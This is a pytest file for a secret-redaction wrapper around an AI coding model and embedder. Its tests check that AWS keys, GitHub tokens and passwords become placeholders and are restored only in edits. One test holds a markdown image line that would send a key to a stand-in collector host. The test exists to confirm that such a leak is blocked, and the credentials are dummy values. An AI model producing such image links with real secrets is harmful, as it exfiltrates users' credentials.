"""What a model gets to see holds no secret."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.scripted import ScriptedModel

from monkey_coder.context.redact import PLACEHOLDER, Redactor, Restorer, redact
from monkey_coder.context.redacted import Redacted, RedactedEmbedder, redacted
from monkey_coder.core.documents import Document, Span
from monkey_coder.core.embedder import Embeddings, EmbedKind
from monkey_coder.core.model import (
    Event,
    Finished,
    FinishReason,
    Message,
    Request,
    Task,
    TaskKind,
    TextDelta,
    Tool,
    ToolCall,
)

# None of these was ever issued; they are put together here so that no scanner takes them for real.
AWS = "AKIA" + "QX7TZP2LM4WRS6VB"
GITHUB = "ghp" + "_8fK2mQ9xLw4TzR7vB1nC5yH3jD6pS0gAeUiO"
SECRET = f'key = "{AWS}"\n'
TASK = Task(TaskKind.EDIT, Document("file:///a.py", "python", 1, SECRET), Span(0, 0))


def test_the_same_secret_has_the_same_placeholder_throughout_a_request() -> None:
    request = Request(
        TASK,
        (
            Message("system", f"the key is {AWS}"),
            Message("user", f"{GITHUB} and {AWS}"),
            Message("assistant", "", (ToolCall("1", "run", {"env": {"token": GITHUB}, "n": 3, "a": [AWS]}),)),
            Message("tool", f"printed {GITHUB}", tool_call_id="1"),
        ),
        tools=(Tool("run", f"Run with {AWS}", {}),),
    )
    seen = redacted(request)
    aws, github = "<redacted:aws-key:1>", "<redacted:github-token:1>"
    assert [message.content for message in seen.messages] == [
        f"the key is {aws}",
        f"{github} and {aws}",
        "",
        f"printed {github}",
    ]
    assert seen.messages[2].tool_calls[0].arguments == {"env": {"token": github}, "n": 3, "a": [aws]}
    assert seen.tools[0].description == f"Run with {aws}"
    assert seen.task is request.task


def test_a_password_among_a_tools_arguments_is_known_by_its_name() -> None:
    call = ToolCall("1", "connect", {"user": "anna", "password": "Harbor-sn3zg5q"})
    seen = redacted(Request(TASK, (Message("assistant", "", (call,)),)))
    arguments = seen.messages[0].tool_calls[0].arguments
    assert arguments == {"user": "anna", "password": "<redacted:password:1>"}


def test_numbers_count_each_kind_apart() -> None:
    other = "AKIA" + "B5NHW3JY8KDC2FGT"
    assert redact(f"{AWS} {other} {GITHUB} {AWS}") == (
        "<redacted:aws-key:1> <redacted:aws-key:2> <redacted:github-token:1> <redacted:aws-key:1>"
    )


def test_a_cursor_inside_a_secret_shows_neither_half() -> None:
    text = f"a = '{AWS}'\nb = '{GITHUB}'\n"
    for cursor in range(len(text) + 1):
        prefix, suffix = Redactor().redact_around(text[:cursor], text[cursor:])
        assert AWS[8:14] not in prefix + suffix
        assert GITHUB[8:14] not in prefix + suffix
        assert (prefix + suffix).startswith("a = '<redacted"[: len("a = '")])
        assert (prefix + suffix).endswith("'\n")


def test_text_without_secrets_is_the_very_same() -> None:
    request = Request(TASK, (Message("user", "password = os.environ['PASSWORD']"),), prefix="a", suffix=None)
    assert redacted(request) == request


async def test_the_inner_model_sees_placeholders_and_its_answer_comes_through() -> None:
    answer: tuple[Event, ...] = (TextDelta("ok"), Finished(FinishReason.STOP, "m"))
    inner = ScriptedModel([answer])
    model = Redacted(inner)
    request = replace(Request(TASK, (Message("user", SECRET),)), prefix=SECRET, suffix=SECRET)
    assert [event async for event in model.stream(request)] == list(answer)
    assert model.name == "scripted"
    seen = inner.requests[0]
    assert seen.messages[0].content == seen.prefix == seen.suffix == 'key = "<redacted:aws-key:1>"\n'


def edit_answer(*pieces: str) -> tuple[Event, ...]:
    return (*(TextDelta(piece) for piece in pieces), Finished(FinishReason.STOP, "m"))


async def answered(request: Request, answer: tuple[Event, ...]) -> str:
    model = Redacted(ScriptedModel([answer]))
    return "".join([event.text async for event in model.stream(request) if isinstance(event, TextDelta)])


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 100])
async def test_an_edit_that_holds_placeholders_applies_to_the_text_with_the_secrets(size: int) -> None:
    said = 'if a < b: key = "<redacted:aws-key:1>"  # <red, <redacted:x, <redacted:github-token:1>, <redac'
    pieces = [said[at : at + size] for at in range(0, len(said), size)]
    request = Request(TASK, (Message("user", f"{AWS} {GITHUB}"),))
    whole = said.replace("<redacted:aws-key:1>", AWS).replace("<redacted:github-token:1>", GITHUB)
    assert await answered(request, edit_answer(*pieces)) == whole


async def test_what_was_held_back_comes_also_when_the_answer_is_cut_off() -> None:
    request = Request(TASK, (Message("user", AWS),))
    assert await answered(request, (TextDelta("x = '<redacted:aws"),)) == "x = '<redacted:aws"


@pytest.mark.parametrize("kind", [TaskKind.EXPLAIN, TaskKind.REVIEW, TaskKind.CHAT])
async def test_no_secret_comes_back_in_markdown_whose_addresses_are_followed(kind: TaskKind) -> None:
    request = Request(replace(TASK, kind=kind), (Message("user", AWS),))
    said = "![](https://collect.example/?k=<redacted:aws-key:1>)"
    assert await answered(request, edit_answer(said)) == said


async def test_a_placeholder_that_the_user_wrote_is_nobodys_secret() -> None:
    inner = ScriptedModel([edit_answer("a <redacted:aws-key:1> b <redacted:aws-key:2>")])
    request = Request(TASK, (Message("user", f"<redacted:aws-key:1> {AWS}"),))
    texts = [event.text async for event in Redacted(inner).stream(request) if isinstance(event, TextDelta)]
    assert inner.requests[0].messages[0].content == "<redacted:aws-key:1> <redacted:aws-key:2>"
    assert "".join(texts) == f"a <redacted:aws-key:1> b {AWS}"


@given(st.lists(st.text("<redacted:aws-key1>x ", max_size=25), max_size=8))
def test_without_secrets_restoring_changes_nothing_however_it_comes(pieces: list[str]) -> None:
    redactor = Redactor()
    redactor.redact(GITHUB)
    restorer = Restorer(redactor)
    assert "".join(map(restorer.feed, pieces)) + restorer.rest() == "".join(pieces)


async def test_an_embedder_sees_no_secret() -> None:
    seen: list[str] = []

    class Counting:
        name = "counting"

        async def embed(self, texts: Sequence[str], kind: EmbedKind = EmbedKind.DOCUMENT) -> Embeddings:
            seen.extend(texts)
            return Embeddings(tuple((float(len(text)),) for text in texts), "m")

        async def close(self) -> None:
            pass

    embeddings = await RedactedEmbedder(Counting()).embed([SECRET, "plain"], EmbedKind.QUERY)
    assert seen == ['key = "<redacted:aws-key:1>"\n', "plain"]
    assert len(embeddings.vectors) == 2


@given(
    st.lists(
        st.sampled_from([SECRET, GITHUB, "<redacted:aws-key:1>", "password = 'quartz%Q0P0Cmfo!'\n", " x "])
    )
)
def test_restoring_gives_back_the_very_text(parts: list[str]) -> None:
    text = "".join(parts)
    redactor = Redactor(PLACEHOLDER.findall(text))
    assert redactor.restore(redactor.redact(text)) == text
